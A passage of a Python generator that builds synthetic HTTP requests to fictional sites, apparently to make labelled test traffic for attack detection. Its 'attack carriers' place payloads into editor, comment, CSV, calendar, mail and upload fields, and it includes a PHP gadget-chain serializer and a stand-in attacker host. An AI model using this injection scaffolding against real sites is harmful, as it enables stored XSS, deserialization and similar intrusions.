                         ("website", rng.choice(["", "https://renee-oconnor.ie", "https://bj\u00f6rn.photo"])), ("date_of_birth", "")],
                        accept=ACCEPT_JSON, extra=[("X-CSRF-Token", rand_token(rng, 86)), ("X-Requested-With", "XMLHttpRequest")])
        elif kind == 3:  # recipe submission
            title, ingr, steps = RECIPES[i // 10 % len(RECIPES)]
            c.form_post(L, None, "recipes.hearthside.kitchen", "/recipes/new",
                        [("csrfmiddlewaretoken", rand_token(rng, 64)), ("title", title), ("servings", str(rng.randint(2, 8))), ("prep_time", "15 min"),
                         ("ingredients", ingr), ("method", steps), ("tags", "baking, family, easy"), ("notes", rng.choice(["", "Works with gluten-free flour too (1:1).", "Freezes well - up to 3 months."]))])
        elif kind == 4:  # legal text in a contract tool
            c.json_req(L, None, "PUT", "contracts.lindenhof-partners.de", "/api/templates/%d/clauses/%d" % (rng.randint(1, 300), rng.randint(1, 40)),
                       {"heading": rng.choice(["Term and termination", "Limitation of liability", "Data protection", "Rent & deposit", "Warranty disclaimer"]),
                        "text": LEGAL[i // 10 % len(LEGAL)], "locked": False})
        elif kind == 5:  # poetry / writing site
            poem = POEMS[i // 10 % len(POEMS)]
            c.form_post(L, None, "verse.quietpages.net", "/write/submit",
                        [("_token", rand_token(rng, 40)), ("title", rng.choice(["Fog", "Untitled (June)", "\u9759\u591c\u601d", "Evening", "Haiku #12"])), ("body", poem),
                         ("visibility", "public"), ("allow_comments", "1"), ("content_warning", "")])
        elif kind == 6:  # job application (multipart with cover letter)
            nm = rng.choice(NAMES)
            letter = "Dear Hiring Team,\n\nI'm applying for the %s role. %s\n\nI'd love to chat - I'm available from 1 September.\n\nKind regards,\n%s" % (
                rng.choice(["Senior Backend Engineer", "Product Designer (m/f/d)", "Data Analyst \u2014 Finance", "Customer Success Lead"]), rng.choice(PARAS), nm)
            c.upload(L, None, "jobs.northbank-council.gov.uk", "/apply/%d" % rng.randint(1000, 9999),
                     [("name", nm), ("email", rng.choice(EMAILS)), ("phone", "+44 7700 900%03d" % rng.randint(0, 999)), ("cover_letter", letter),
                      ("salary_expectation", rng.choice(["\u00a355,000 - \u00a360,000", "negotiable", "55k-60k GBP"])), ("right_to_work", "yes"),
                      ("cv", "%PDF-1.7\n% CV of " + nm + "\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n", rng.choice(DOC_FILENAMES[2:3] + ["CV %s.pdf" % nm]), "application/pdf")])
        elif kind == 7:  # classified ad
            c.form_post(L, None, "market.rivertown-gazette.com", "/ads/new",
                        [("title", rng.choice(["Kids' bike 20\" - like new", "2-bed flat to rent, 62 m\u00b2, balcony", "Sofa (3-seater) & armchair, free to collect", "Piano lessons \u2013 all ages"])),
                         ("price", rng.choice(["85", "1150", "0", "25/hour"])), ("description", rng.choice(COMMENTS) + "\n" + rng.choice(PARAS)),
                         ("contact", "%s <%s>" % (rng.choice(NAMES), rng.choice(EMAILS))), ("category", rng.choice(["for-sale", "housing", "services"]))])
        elif kind == 8:  # contact form
            c.form_post(L, None, "www.greenleaf-ngo.org", "/contact",
                        [("your-name", rng.choice(NAMES)), ("your-email", rng.choice(EMAILS)), ("your-subject", rng.choice(["Volunteering", "Donation receipt", "Press enquiry", "Question re: the fundraiser on 14/06"])),
                         ("your-message", rng.choice(TICKET_BODIES + PARAS)), ("_wpcf7", str(rng.randint(10, 900))), ("_wpcf7_version", "5.9.6"), ("_wpcf7_locale", "en_US"),
                         ("_wpcf7_unit_tag", "wpcf7-f%d-p12-o1" % rng.randint(10, 900)), ("acceptance-gdpr", "1")],
                        accept="application/json, */*;q=0.1")
        else:  # survey / RSVP free text (JSON)
            c.json_req(L, None, "POST", "events.saltmarsh.org", "/api/rsvp",
                       {"eventId": rng.randint(100, 999), "name": rng.choice(NAMES), "guests": rng.randint(0, 3),
                        "dietary": rng.choice(["vegetarian", "no nuts please!", "halal", "gluten-free & dairy-free", "none :)", "\u7d20\u98df"]),
                        "comment": rng.choice(COMMENTS + CHAT), "consent": True})


BENIGN_GENERATORS = [gen_rte_html, gen_rte_json, gen_cms_markup, gen_markdown, gen_comments, gen_i18n, gen_math, gen_spreadsheet,
                     gen_calendar, gen_mail, gen_uploads, gen_forms]


# --------------------------------------------------------------------------
# Attack carriers: put a payload into a content channel
# --------------------------------------------------------------------------

ATK = "attacker.example"


class PhpObj:
    def __init__(self, cls, props):
        self.cls, self.props = cls, props  # props: [(name, vis, value)] vis in "", "*", or class name


def php_ser(v):
    """PHP serialize(), so that the string lengths in gadget chains are right."""
    if v is None:
        return "N;"
    if isinstance(v, bool):
        return "b:%d;" % int(v)
    if isinstance(v, int):
        return "i:%d;" % v
    if isinstance(v, str):
        return 's:%d:"%s";' % (len(v.encode("utf-8")), v)
    if isinstance(v, list):
        return "a:%d:{%s}" % (len(v), "".join(php_ser(i) + php_ser(x) for i, x in enumerate(v)))
    if isinstance(v, dict):
        return "a:%d:{%s}" % (len(v), "".join(php_ser(k) + php_ser(x) for k, x in v.items()))
    if isinstance(v, PhpObj):
        body = ""
        for name, vis, val in v.props:
            key = name if not vis else "\0%s\0%s" % (vis, name)
            body += php_ser(key) + php_ser(val)
        return 'O:%d:"%s":%d:{%s}' % (len(v.cls), v.cls, len(v.props), body)
    raise TypeError(v)


def filler(rng, n=2):
    return rng.sample(PARAS, n)


def a_editor_html(c, cat, payload, v=0, label="editor-html"):
    rng = c.rng
    before, after = filler(rng, 2)
    doc = "<p>%s</p>%s<p>%s</p>" % (decorate(rng, before), payload, esc(after)) if v % 3 != 2 else "<p>%s %s</p><p>%s</p>" % (esc(before), payload, esc(after))
    L = label
    v = v % 7
    if v == 0:
        pid = rng.randint(100, 9000)
        c.form_post(L, cat, "blog.fernhill-studio.com", "/wp-admin/post.php",
                    [("_wpnonce", rand_hex(rng, 10)), ("_wp_http_referer", "/wp-admin/post.php?post=%d&action=edit" % pid), ("user_ID", "7"), ("action", "editpost"),
                     ("originalaction", "editpost"), ("post_author", "7"), ("post_type", "post"), ("original_post_status", "draft"), ("post_ID", str(pid)),
                     ("post_title", rng.choice(["Weekly update", "Summer newsletter", "Notes from the offsite"])), ("content", doc), ("post_status", "pending"), ("save", "Save as Pending")],
                    extra=[("Referer", "https://blog.fernhill-studio.com/wp-admin/post.php?post=%d&action=edit" % pid)])
    elif v == 1:
        c.json_req(L, cat, "PUT", "kb.brightlane.co", "/api/v2/articles/%d" % rng.randint(1000, 9999),
                   {"title": rng.choice(TICKET_SUBJECTS), "body_html": doc, "locale": "en-us", "draft": False}, extra=[("X-CSRF-Token", rand_token(rng, 44))])
    elif v == 2:
        c.upload(L, cat, "www.northbank-council.gov.uk", "/node/%d/edit" % rng.randint(10, 900),
                 [("title[0][value]", "Community notice"), ("body[0][value]", doc), ("body[0][format]", "basic_html"),
                  ("form_build_id", "form-" + rand_token(rng, 43)), ("form_token", rand_token(rng, 43)), ("form_id", "node_article_edit_form"), ("op", "Save")], accept=ACCEPT_HTML)
    elif v == 3:
        c.form_post(L, cat, "forum.vintage-radio.club", "/thread/%d/reply" % rng.randint(100, 50000),
                    [("csrf_token", rand_token(rng, 40)), ("message", doc), ("subscribe", "1"), ("submit", "Post reply")])
    elif v == 4:
        c.json_req(L, cat, "POST", rng.choice(["stories.greenleaf-ngo.org", "blog.fernhill-studio.com"]), "/wp-json/wp/v2/posts/%d" % rng.randint(100, 9000),
                   {"title": "Spring fair recap", "content": "<!-- wp:html -->\n%s\n<!-- /wp:html -->\n\n<!-- wp:paragraph -->\n<p>%s</p>\n<!-- /wp:paragraph -->" % (payload, esc(before)), "status": "draft"},
                   extra=[("X-WP-Nonce", rand_hex(rng, 10))])
    elif v == 5:
        c.json_req(L, cat, "PUT", "wiki.northwind-labs.com", "/rest/api/content/%d" % rng.randint(100000, 9999999),
                   {"type": "page", "title": "Runbook: payment retries", "space": {"key": "ENG"}, "version": {"number": rng.randint(2, 80)},
                    "body": {"storage": {"value": doc, "representation": "storage"}}}, extra=[("X-Atlassian-Token", "no-check")])
    else:
        c.json_req(L, cat, "POST", "mail.campaigns.brightlane.co", "/api/campaigns/%d/content" % rng.randint(100, 9999),
                   {"subject": "June newsletter", "html": NEWSLETTER_HTML % {"title": "June newsletter", "domain": "brightlane.co", "brand": "Brightlane", "token": rand_token(rng, 30),
                                                                         "body": doc, "cta": "Read more", "address": "Brightlane Ltd, 1 Dock St, Leith"}, "editor": "tinymce"})


def a_editor_json(c, cat, payload, slot):
    """slot: where the payload goes in the document model."""
    rng = c.rng
    L = "editor-json"
    paras = filler(rng, 2)
    if slot.startswith("quill"):
        d = quill_delta(rng, paras[:1])
        if slot == "quill-link":
            d["ops"].append({"insert": "see the full report", "attributes": {"link": payload}})
        elif slot == "quill-video":
            d["ops"].append({"insert": {"video": payload}})
        elif slot == "quill-image":
            d["ops"].append({"insert": {"image": payload}})
        elif slot == "quill-attr":
            d["ops"].append({"insert": "note", "attributes": payload})
        else:
            d["ops"].append({"insert": payload + "\n"})
        d["ops"].append({"insert": paras[1] + "\n"})
        c.json_req(L, cat, "POST", "app.clearpath-tasks.com", "/api/tasks/%d/comments" % rng.randint(1000, 99999), {"delta": d, "mentions": []})
    elif slot.startswith("pm"):
        doc = prosemirror_doc(rng, paras)
        if slot == "pm-link":
            node = {"type": "paragraph", "content": [{"type": "text", "text": "Details: "}, {"type": "text", "marks": [{"type": "link", "attrs": {"href": payload, "target": "_blank"}}], "text": "here"}]}
        elif slot == "pm-html":
            node = {"type": "htmlBlock", "attrs": {"html": payload}}
        elif slot == "pm-image":
            node = {"type": "image", "attrs": {"src": payload, "alt": "diagram", "title": None}}
        elif slot == "pm-iframe":
            node = {"type": "iframe", "attrs": {"src": payload, "frameborder": 0, "allowfullscreen": True}}
        else:
            node = {"type": "paragraph", "content": [{"type": "text", "text": payload}]}
        doc["content"].insert(2, node)
        c.json_req(L, cat, "PATCH", "docs.tessellate.so", "/api/documents/%s" % rand_uuid(rng), {"title": "Q3 planning notes", "content": doc, "version": rng.randint(2, 300)})
    elif slot.startswith("draft"):
        raw = draft_raw(rng, paras)
        if slot == "draft-link":
            raw["entityMap"]["9"] = {"type": "LINK", "mutability": "MUTABLE", "data": {"url": payload, "target": "_blank"}}
            raw["blocks"].append({"key": "x9a1b", "text": "Open the invoice", "type": "unstyled", "depth": 0, "inlineStyleRanges": [], "entityRanges": [{"offset": 0, "length": 16, "key": 9}], "data": {}})
        elif slot == "draft-img":
            raw["entityMap"]["9"] = {"type": "IMAGE", "mutability": "IMMUTABLE", "data": {"src": payload, "alt": "chart"}}
            raw["blocks"].append({"key": "x9a1b", "text": " ", "type": "atomic", "depth": 0, "inlineStyleRanges": [], "entityRanges": [{"offset": 0, "length": 1, "key": 9}], "data": {}})
        else:
            raw["blocks"].append({"key": "x9a1b", "text": payload, "type": "unstyled", "depth": 0, "inlineStyleRanges": [], "entityRanges": [], "data": {}})
        c.json_req(L, cat, "POST", "hub.kestrel-media.net", "/api/drafts/%d" % rng.randint(10000, 99999), {"raw": raw, "autosave": True})
    elif slot.startswith("slate"):
        val = slate_value(rng, paras)
        if slot == "slate-link":
            val.insert(1, {"type": "paragraph", "children": [{"text": "Read "}, {"type": "link", "url": payload, "children": [{"text": "the spec"}]}, {"text": "."}]})
        else:
            val.insert(1, {"type": "paragraph", "children": [{"text": payload}]})
        c.json_req(L, cat, "PUT", "wiki.pinecrest.dev", "/api/pages/%d/body" % rng.randint(1, 5000), {"format": "slate", "value": val})
    elif slot.startswith("ejs"):
        d = editorjs(rng, paras)
        if slot == "ejs-raw":
            d["blocks"].insert(2, {"id": rand_token(rng, 10), "type": "raw", "data": {"html": payload}})
        elif slot == "ejs-embed":
            d["blocks"].insert(2, {"id": rand_token(rng, 10), "type": "embed", "data": {"service": "youtube", "source": "https://www.youtube.com/watch?v=aqz-KE-bpKQ", "embed": payload, "width": 580, "height": 320, "caption": ""}})
        elif slot == "ejs-image":
            d["blocks"].insert(2, {"id": rand_token(rng, 10), "type": "image", "data": {"file": {"url": payload}, "caption": "Figure 1", "withBorder": False, "stretched": False, "withBackground": False}})
        elif slot == "ejs-link":
            d["blocks"].insert(2, {"id": rand_token(rng, 10), "type": "linkTool", "data": {"link": payload, "meta": {}}})
        else:
            d["blocks"].insert(2, {"id": rand_token(rng, 10), "type": "paragraph", "data": {"text": payload}})
        c.json_req(L, cat, "POST", "cms.lighthouse-press.org", "/api/articles/%d/content" % rng.randint(1, 9000), d)
    elif slot.startswith("lexical"):
        st = lexical_state(rng, paras)
        if slot == "lexical-link":
            st["root"]["children"].append({"children": [{"children": [{"detail": 0, "format": 0, "mode": "normal", "style": "", "text": "click here", "type": "text", "version": 1}],
                                                          "direction": "ltr", "format": "", "indent": 0, "type": "link", "version": 1, "rel": None, "target": None, "title": None, "url": payload}],
                                           "direction": "ltr", "format": "", "indent": 0, "type": "paragraph", "version": 1})
        else:
            st["root"]["children"].append({"children": [{"detail": 0, "format": 0, "mode": "normal", "style": "", "text": payload, "type": "text", "version": 1}],
                                           "direction": "ltr", "format": "", "indent": 0, "type": "paragraph", "version": 1})
        c.json_req(L, cat, "PUT", "portal.brightlane.co", "/api/v1/posts/%d" % rng.randint(1, 9999), {"editorState": jdump(st), "plainText": paras[0]})
    elif slot.startswith("notion"):
        b = notion_blocks(rng, paras)
        if slot == "notion-bookmark":
            b["children"].insert(1, {"object": "block", "type": "bookmark", "bookmark": {"url": payload, "caption": []}})
        elif slot == "notion-embed":
            b["children"].insert(1, {"object": "block", "type": "embed", "embed": {"url": payload}})
        elif slot == "notion-image":
            b["children"].insert(1, {"object": "block", "type": "image", "image": {"type": "external", "external": {"url": payload}}})
        elif slot == "notion-textlink":
            b["children"].insert(1, {"object": "block", "type": "paragraph", "paragraph": {"rich_text": [{"type": "text", "text": {"content": "the doc", "link": {"url": payload}}}]}})
        else:
            b["children"].insert(1, {"object": "block", "type": "paragraph", "paragraph": {"rich_text": [{"type": "text", "text": {"content": payload, "link": None}}]}})
        c.json_req(L, cat, "PATCH", "api.inkwell.app", "/v1/blocks/%s/children" % rand_uuid(rng), b,
                   extra=[("Notion-Version", "2022-06-28"), ("Authorization", "Bearer secret_" + rand_token(rng, 43))], origin=False)
    else:  # "raw": payload is the whole JSON object
        c.json_req(L, cat, "POST", "docs.tessellate.so", "/api/documents/%s/import" % rand_uuid(rng), payload)


def a_markdown(c, cat, payload, v=0):
    rng = c.rng
    L = "markdown"
    md = "%s\n\n%s\n\n%s" % (rng.choice(MD_INTROS), payload, rng.choice(MD_EXTRAS)) if v % 2 == 0 else "%s %s\n\n%s" % (rng.choice(MD_INTROS), payload, rng.choice(PARAS))
    repo = rng.choice(["acme/widgets", "openmaps/tiler", "northwind/ledger"])
    v = v % 5
    if v == 0:
        c.json_req(L, cat, "POST", "api.github.com", "/repos/%s/issues/%d/comments" % (repo, rng.randint(1, 5000)), {"body": md},
                   accept="application/vnd.github+json", extra=[("Authorization", "Bearer ghp_" + rand_token(rng, 36))], origin=False)
    elif v == 1:
        c.form_post(L, cat, "gitlab.northwind-labs.com", "/api/v4/projects/%d/issues/%d/notes" % (rng.randint(1, 400), rng.randint(1, 900)), [("body", md)],
                    accept=ACCEPT_JSON, extra=[("PRIVATE-TOKEN", "glpat-" + rand_token(rng, 20))], origin=False)
    elif v == 2:
        c.form_post(L, cat, "community.saltmarsh.org", "/posts", [("raw", md), ("topic_id", str(rng.randint(100, 20000))), ("archetype", "regular"), ("nested_post", "true")],
                    accept=ACCEPT_JSON, extra=[("X-CSRF-Token", rand_token(rng, 86)), ("X-Requested-With", "XMLHttpRequest")])
    elif v == 3:
        c.json_req(L, cat, "POST", "git.ourteam.dev", "/api/v1/repos/%s/issues" % repo, {"title": rng.choice(TICKET_SUBJECTS), "body": md})
    else:
        c.json_req(L, cat, "PUT", "gitlab.northwind-labs.com", "/api/v4/projects/%d/wikis/home" % rng.randint(1, 400), {"content": md, "format": "markdown", "title": "Home"},
                   extra=[("PRIVATE-TOKEN", "glpat-" + rand_token(rng, 20))], origin=False)


def a_comment(c, cat, payload, v=0, field="body"):
    """field: body | name | email | url | title | bio."""
    rng = c.rng
    L = "comment"
    if field == "bio":
        field = "body"
    # which fields each variant has; fall through to the next variant that has the field
    has = [("body", "name", "email", "url"), ("body", "name", "email", "title"), ("body",), ("body", "name", "email", "title"), ("body", "name"),
           ("body", "name", "url"), ("body", "name", "url")]
    v = v % 7
    while field not in has[v]:
        v = (v + 1) % 7
    # formulas must start the cell; other payloads may follow some ordinary text
    lead = "" if cat == "generic" else rng.choice(["", rng.choice(COMMENTS) + " "])
    text = (lead + payload) if field == "body" else rng.choice(COMMENTS)
    name = payload if field == "name" else rng.choice(NAMES)
    email = payload if field == "email" else rng.choice(EMAILS)
    if v == 0:
        c.form_post(L, cat, rng.choice(["blog.fernhill-studio.com", "www.rivertown-gazette.com"]), "/wp-comments-post.php",
                    [("comment", text), ("author", name), ("email", email),
                     ("url", payload if field == "url" else ""), ("submit", "Post Comment"), ("comment_post_ID", str(rng.randint(1, 9000))), ("comment_parent", "0")])
    elif v == 1:
        c.form_post(L, cat, "shop.mapleandoak.com", "/products/%s/reviews" % rng.choice(["linen-apron-sage", "oak-serving-board"]),
                    [("authenticity_token", rand_token(rng, 86)), ("review[rating]", "5"), ("review[title]", payload if field == "title" else rng.choice(REVIEW_TITLES)),
                     ("review[body]", text), ("review[author]", name), ("review[email]", email)])
    elif v == 2:
        c.json_req(L, cat, "POST", "chat.teamharbor.io", "/api/v4/posts",
                   {"channel_id": rand_token(rng, 26, "abcdefghijklmnopqrstuvwxyz0123456789"), "message": text, "root_id": "", "file_ids": [], "metadata": {}},
                   extra=[("X-Requested-With", "XMLHttpRequest")])
    elif v == 3:
        c.json_req(L, cat, "POST", "tidewater.zendesk.com", "/api/v2/tickets.json",
                   {"ticket": {"subject": payload if field == "title" else rng.choice(TICKET_SUBJECTS), "comment": {"body": text if field == "body" else rng.choice(TICKET_BODIES)},
                               "requester": {"name": name, "email": email}, "tags": ["web_form"]}})
    elif v == 4:
        c.json_req(L, cat, "POST", "www.rivertown-gazette.com", "/api/comments",
                   {"articleId": rng.randint(10000, 99999), "parentId": None, "body": text, "displayName": name, "notify": True})
    elif v == 5:
        c.form_post(L, cat, "community.saltmarsh.org", "/u/%s/preferences/profile" % rng.choice(["renee", "bjorn", "mchen"]),
                    [("bio_raw", text if field == "body" else rng.choice(BIOS)), ("name", name),
                     ("location", "Porto, PT"), ("website", payload if field == "url" else "")], accept=ACCEPT_JSON, extra=[("X-CSRF-Token", rand_token(rng, 86))])
    else:
        c.json_req(L, cat, "PATCH", "app.clearpath-tasks.com", "/api/me", {"displayName": name, "bio": text if field == "body" else rng.choice(BIOS),
                                                                           "website": payload if field == "url" else None, "locale": "en"})


def a_csv(c, cat, payload, v=0, col=1):
    rng = c.rng
    L = "csv"
    fname, data = CSV_SETS[rng.choice([0, 3, 4, 8])]
    rows = data.rstrip("\n").split("\n")
    cells = next(csv_reader([rows[1]]))
    cells[col % len(cells)] = payload
    rows.insert(2, csv_line(cells))
    data = "\n".join(rows) + "\n"
    v = v % 5
    if v == 0:
        c.upload(L, cat, "sheets.gridwise.app", "/api/workbooks/%s/import" % rand_hex(rng, 12), [("mode", "append"), ("delimiter", ","), ("file", data, fname, "text/csv")])
    elif v == 1:
        c.upload(L, cat, "crm.lindenhof-partners.de", "/contacts/import", [("_token", rand_token(rng, 40)), ("list_id", str(rng.randint(1, 50))), ("csv_file", data, fname, "text/csv")], accept=ACCEPT_HTML)
    elif v == 2:
        c.add(L, cat, "PUT", "files.cloudbox-drive.com", "/remote.php/dav/files/mchen/Documents/%s" % qp(fname), "text/csv; charset=utf-8", data, accept="*/*", ua="rclone/v1.67.0", origin=False)
    elif v == 3:
        c.json_req(L, cat, "POST", "sheets.gridwise.app", "/api/sheets/%d/cells" % rng.randint(1, 5000),
                   {"changes": [{"row": rng.randint(1, 40), "col": rng.randint(0, 6), "old": None, "new": payload}], "revision": rng.randint(1, 900)})
    else:
        c.json_req(L, cat, "POST", "sheets.gridwise.app", "/v4/spreadsheets/%s/values:batchUpdate" % rand_token(rng, 44),
                   {"valueInputOption": "USER_ENTERED", "data": [{"range": "Sheet1!A%d" % rng.randint(2, 90), "values": [[rng.choice(NAMES), payload, rng.randint(1, 99)]]}]},
                   extra=[("Authorization", "Bearer ya29." + rand_token(rng, 60))], origin=False)


def csv_reader(lines):
    import csv
    return csv.reader(lines)


def csv_line(cells):
    import csv
    import io
    buf = io.StringIO()
    csv.writer(buf, lineterminator="").writerow(cells)
    return buf.getvalue()


def a_ical(c, cat, payload, prop="SUMMARY", v=0):
    """prop: SUMMARY, DESCRIPTION, LOCATION, X-ALT-DESC, ATTENDEE-CN, UID, ATTACH, URL (vEvent) or
    vCard props FN, NOTE, ORG, URL-VC, PHOTO, EMAIL; or JSON:<field> for calendar JSON APIs."""
    rng = c.rng
    L = "ical-vcard"
    if prop.startswith("JSON:"):
        f = prop[5:]
        ev = {"summary": "Sprint planning #42", "location": "Room 3B", "description": "Please update your tickets.",
              "start": {"dateTime": "2024-08-12T10:00:00+02:00"}, "end": {"dateTime": "2024-08-12T11:00:00+02:00"}, "attendees": [{"email": "priya.r@brightlane.co"}]}
        if f == "attendee":
            ev["attendees"].append({"email": payload})
        else:
            ev[f] = payload
        c.json_req(L, cat, "POST", "cal.clearpath-tasks.com", "/api/calendars/primary/events", ev)
        return
    vcard_props = ("FN", "NOTE", "ORG", "URL-VC", "PHOTO", "EMAIL", "TEL", "N")
    if prop in vcard_props:
        fn, ln, org, title, tel, mail, adr, note = rng.choice(VCARDS)
        vals = {"FN": "%s %s" % (fn, ln), "NOTE": note or "-", "ORG": org.replace(",", "\\,") + ";", "EMAIL": mail, "TEL": tel, "N": "%s;%s;;;" % (ln, fn)}
        if prop == "URL-VC":
            extra_line = "URL:" + payload
        elif prop == "PHOTO":
            extra_line = "PHOTO;VALUE=uri:" + payload
        else:
            vals[prop] = payload
            extra_line = None
        uid = rand_uuid(rng)
        lines = ["BEGIN:VCARD", "VERSION:3.0", "PRODID:-//Apple Inc.//iPhone OS 17.5//EN", "N:" + vals["N"], "FN:" + vals["FN"], "ORG:" + vals["ORG"],
                 "EMAIL;type=INTERNET;type=pref:" + vals["EMAIL"], "TEL;type=CELL:" + vals["TEL"], "NOTE:" + vals["NOTE"]]
        if extra_line:
            lines.append(extra_line)
        lines += ["UID:" + uid, "END:VCARD"]
        body = "\r\n".join(lines) + "\r\n"
        if v % 2 == 0:
            c.add(L, cat, "PUT", "dav.groupware.kestrel-media.net", "/addressbooks/renee/contacts/%s.vcf" % uid, "text/vcard; charset=utf-8", body, accept="*/*",
                  ua="DAVx5/4.4.1-ose (2024/06/10; dav4jvm; okhttp/4.12.0) Android/14", origin=False)
        else:
            c.upload(L, cat, "crm.lindenhof-partners.de", "/contacts/import/vcard", [("_token", rand_token(rng, 40)), ("file", body, "contacts.vcf", "text/vcard")], accept=ACCEPT_HTML)
        return
    summary, loc, desc = rng.choice(EVENTS)
    uid = rand_uuid(rng).upper()
    vals = {"SUMMARY": "SUMMARY:" + ics_escape(summary), "LOCATION": "LOCATION:" + ics_escape(loc or "Room 3B"), "DESCRIPTION": "DESCRIPTION:" + ics_escape(desc), "UID": "UID:" + uid}
    extra_lines = []
    if prop in ("SUMMARY", "LOCATION", "DESCRIPTION"):
        vals[prop] = prop + ":" + payload
    elif prop == "UID":
        vals["UID"] = "UID:" + payload
    elif prop == "X-ALT-DESC":
        extra_lines.append("X-ALT-DESC;FMTTYPE=text/html:" + payload)
    elif prop == "ATTENDEE-CN":
        extra_lines.append("ATTENDEE;CN=\"%s\";ROLE=REQ-PARTICIPANT;RSVP=TRUE:mailto:dana@example.com" % payload)
    elif prop == "ATTACH":
        extra_lines.append("ATTACH:" + payload)
    elif prop == "URL":
        extra_lines.append("URL;VALUE=URI:" + payload)
    lines = ["BEGIN:VCALENDAR", "VERSION:2.0", "PRODID:-//Mozilla.org/NONSGML Mozilla Calendar V1.1//EN", "BEGIN:VEVENT", vals["UID"], "DTSTAMP:20240610T081500Z",
             "DTSTART:20240712T090000Z", "DTEND:20240712T100000Z", vals["SUMMARY"], vals["LOCATION"], vals["DESCRIPTION"]] + extra_lines + [
             "ORGANIZER;CN=\"Priya Raman\":mailto:priya.r@brightlane.co", "END:VEVENT", "END:VCALENDAR"]
    body = "\r\n".join(lines) + "\r\n"
    if v % 2 == 0:
        c.add(L, cat, "PUT", "dav.groupware.kestrel-media.net", "/calendars/jonas/personal/%s.ics" % rand_uuid(rng).upper(), "text/calendar; charset=utf-8", body, accept="*/*",
              ua="Thunderbird/115.12.1", origin=False)
    else:
        c.upload(L, cat, "cal.clearpath-tasks.com", "/api/calendars/primary/import", [("file", body, "invite.ics", "text/calendar")])


def a_mail(c, cat, payload, field="html", v=0):
    """field: html | text | subject | from | to | headers | attachment-xml | form-name |
    form-subject | form-email | json-replyto; v picks SendGrid (even) or Mailgun (odd)."""
    rng = c.rng
    L = "mail-webhook"
    kind, subject, sender = rng.choice(MAIL_KINDS[2:6])
    text, htmlb = mail_bodies(rng, kind, subject, sender)
    to = "support@tidewater-outfitters.com"
    if field.startswith("form-"):
        f = field[5:]
        c.form_post(L, cat, "www.greenleaf-ngo.org", "/contact",
                    [("your-name", payload if f == "name" else rng.choice(NAMES)), ("your-email", payload if f == "email" else rng.choice(EMAILS)),
                     ("your-subject", payload if f == "subject" else "Volunteering"), ("your-message", payload if f == "message" else rng.choice(TICKET_BODIES)),
                     ("_wpcf7", "118"), ("_wpcf7_version", "5.9.6"), ("_wpcf7_unit_tag", "wpcf7-f118-p12-o1")], accept="application/json, */*;q=0.1")
        return
    if field == "json-replyto":
        c.json_req(L, cat, "POST", "api.brightlane.co", "/v1/share/email", {"to": "friend@example.com", "replyTo": payload, "message": "Thought you'd like this article!", "articleId": rng.randint(1000, 9999)})
        return
    if field == "html":
        htmlb = htmlb.replace("</div>", payload + "</div>", 1) if "</div>" in htmlb else htmlb.replace("</td></tr>", payload + "</td></tr>", 3)
    elif field == "text":
        text = text + "\n" + payload + "\n"
    elif field == "subject":
        subject = payload
    elif field == "from":
        sender = payload
    elif field == "to":
        to = payload
    hdrs = "MIME-Version: 1.0\nFrom: %s\nDate: Mon, 10 Jun 2024 12:14:03 +0200\nMessage-ID: <%s@mail.gmail.com>\nSubject: %s\nTo: %s\n" % (sender, rand_token(rng, 24), subject, to)
    if field == "headers":
        hdrs += payload + "\n"
    if v % 2 == 0:
        parts = [("headers", hdrs), ("dkim", "{@gmail.com : pass}"), ("to", to), ("html", htmlb), ("from", sender), ("text", text), ("sender_ip", "209.85.218.41"),
                 ("envelope", jdump({"to": [to], "from": "customer@gmail.com"})), ("subject", subject), ("spam_score", "0.1"), ("SPF", "pass")]
        if field == "attachment-xml":
            parts += [("attachments", "1"), ("attachment-info", jdump({"attachment1": {"filename": "invoice.xml", "name": "invoice.xml", "type": "application/xml"}})),
                      ("attachment1", payload, "invoice.xml", "application/xml")]
        else:
            parts.append(("attachments", "0"))
        c.upload(L, cat, "hooks.helpdesk-app.com", "/inbound/sendgrid?key=%s" % rand_hex(rng, 16), parts, ua="Sendlib/1.0 mx0047p1mdw1.sendgrid.net", accept="*/*", origin=False)
    else:
        mh = jdump([["From", sender], ["To", to], ["Subject", subject], ["Mime-Version", "1.0"]] + ([["X-Extra", payload]] if field == "headers" else []))
        pairs = [("recipient", to), ("sender", "customer@gmail.com"), ("from", sender), ("subject", subject), ("body-plain", text), ("stripped-text", text.split("\n\nOn ")[0]),
                 ("body-html", htmlb), ("timestamp", str(rng.randint(1717000000, 1719000000))), ("token", rand_hex(rng, 50)), ("signature", rand_hex(rng, 64)), ("message-headers", mh)]
        if field == "attachment-xml":
            pairs += [("attachment-count", "1"), ("attachment-1", payload, "invoice.xml", "application/xml")]
            c.upload(L, cat, "hooks.helpdesk-app.com", "/inbound/mailgun/mime", pairs, ua="mailgun/treq-22.2.0", accept="*/*", origin=False)
        else:
            c.form_post(L, cat, "hooks.helpdesk-app.com", "/inbound/mailgun", pairs, ua="mailgun/treq-22.2.0", accept="*/*", origin=False)


def a_svg(c, cat, svg, v=0, name=None):
    rng = c.rng
    name = name or rng.choice(["logo.svg", "icon-check.svg", "diagram (2).svg", "avatar.svg", "badge.svg"])
    v = v % 3
    if v == 0:
        c.upload("svg", cat, "blog.fernhill-studio.com", "/wp-admin/async-upload.php", [("name", name), ("action", "upload-attachment"), ("_wpnonce", rand_hex(rng, 10)), ("async-upload", svg, name, "image/svg+xml")])
    elif v == 1:
        c.upload("svg", cat, "community.saltmarsh.org", "/uploads.json?client_id=%s" % rand_hex(rng, 32), [("type", "avatar"), ("user_id", str(rng.randint(1, 9000))), ("file", svg, name, "image/svg+xml")])
    else:
        c.upload("svg", cat, "app.clearpath-tasks.com", "/api/attachments/upload", [("taskId", str(rng.randint(1000, 99999))), ("file", svg, name, "image/svg+xml")])


def a_upload(c, cat, content, name, ctype, v=0, label="upload"):
    rng = c.rng
    v = v % 4
    if v == 0:
        c.upload(label, cat, "files.cloudbox-drive.com", "/api/v2/upload?parent=%s" % rand_hex(rng, 16), [("relativePath", "Imports/" + name), ("file", content, name, ctype)])
    elif v == 1:
        c.upload(label, cat, "translate.inkwell.app", "/api/projects/%d/import" % rng.randint(1, 90), [("format", "auto"), ("overwrite", "false"), ("file", content, name, ctype)])
    elif v == 2:
        c.upload(label, cat, "cms.lighthouse-press.org", "/api/media", [("alt", "upload"), ("folder", "2024/06"), ("file", content, name, ctype)])
    else:
